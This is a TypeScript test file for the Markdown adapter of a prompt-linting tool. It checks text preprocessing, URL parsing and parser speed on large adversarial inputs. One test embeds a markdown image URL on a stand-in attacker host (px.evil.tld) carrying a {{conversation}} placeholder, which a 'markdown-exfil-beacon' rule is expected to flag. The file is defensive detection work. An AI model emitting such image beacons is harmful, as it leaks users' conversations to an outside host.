import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { lintText, parseDocument } from '@promptlint/core';
import { MAX_PARSED_PARAGRAPH, prepareForParser } from '../../src/formats/markdown.ts';

function timed<T>(f: () => T): { value: T; ms: number } {
  const t = performance.now();
  const value = f();
  return { value, ms: performance.now() - t };
}

describe('Markdown adapter limits', () => {
  it('prepares a same-length copy: emphasis neutralised, list markers and thematic breaks kept', () => {
    const text = '* item with *bold* and _em_\n***\n> * quoted item\nplain a_b\n```\n*code*\n```\n';
    const p = prepareForParser(text);
    assert.equal(p.text.length, text.length);
    assert.equal(p.text, '* item with xboldx and xemx\n***\n> * quoted item\nplain axb\n```\n*code*\n```\n');
  });

  it('keeps URLs with underscores and asterisks as written', () => {
    const text = 'See ![x](https://cdn.tld/p_a_t*h.png?q={{chat_history}}) now.\n';
    const doc = parseDocument({ path: 'a.md', text }, 'markdown');
    const link = doc.nodes.find((n) => n.type === 'link');
    assert.ok(link && link.type === 'link');
    assert.equal(link.url, 'https://cdn.tld/p_a_t*h.png?q={{chat_history}}');
    assert.equal(text.slice(link.urlStart, link.urlEnd), link.url);
  });

  it('reads an over-long paragraph as prose, with findings at their raw position', async () => {
    const filler = 'word '.repeat(Math.ceil(MAX_PARSED_PARAGRAPH / 5) + 10);
    const text = `# T\n\n${filler}![x](https://px.evil.tld/a.gif?d={{conversation}}) <!-- note -->\n`;
    const doc = parseDocument({ path: 'a.md', text }, 'markdown');
    assert.ok(doc.segments.some((s) => s.context === 'prose' && s.value.startsWith('word ')));
    assert.equal(doc.comments.length, 1);
    const r = await lintText(text, { filePath: 'a.md' });
    const m = r.messages.find((x) => x.ruleId === 'markdown-exfil-beacon');
    assert.ok(m);
    assert.equal(m.line, 3);
    assert.equal(text.split('\n')[2]!.slice(m.column - 1, m.column - 1 + 8), 'https://');
  });

  for (const [name, unit] of [['emphasis', '*a'], ['underscores', ' _a'], ['brackets', '['], ['images', '![a]('], ['role tokens', '<|im_start'], ['unclosed comments', '<!--'], ['html attributes', '<img x ']] as const) {
    it(`parses 1 MB and 200 KB of adversarial ${name} without blowing up`, () => {
      for (const size of [1_000_000, 200_000]) {
        const text = unit.repeat(Math.ceil(size / unit.length));
        const { ms } = timed(() => parseDocument({ path: 'a.md', text }, 'markdown'));
        // A generous bound: the point is "seconds, not minutes" (before the guards: 216 s for 200 KB of '*a').
        assert.ok(ms < 8000, `${name} ${size}: ${Math.round(ms)} ms`);
      }
    });
  }
});
